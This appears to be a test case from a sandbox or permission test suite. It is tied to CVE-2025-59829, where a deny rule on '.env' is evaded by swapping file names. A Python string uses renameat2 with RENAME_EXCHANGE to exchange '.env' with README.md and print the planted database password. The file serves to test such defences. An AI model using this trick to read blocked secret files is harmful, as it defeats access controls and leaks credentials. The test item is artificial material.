"""exchanges .env with another file in one call"""

from evidence import secret_printed as succeeded

SHAPE = "CVE-2025-59829: a deny rule for a name, and the file under another"
PROMISE = "P11"
WALLS = "hidden-files"
PYTHON = """
import ctypes
libc = ctypes.CDLL(None)
libc.renameat2(-100, b".env", -100, b"README.md", 2)  # RENAME_EXCHANGE
print(open("README.md").read())
"""


def prepare(host):
    host.write(".env", f"DATABASE_PASSWORD={host.secret}\n")
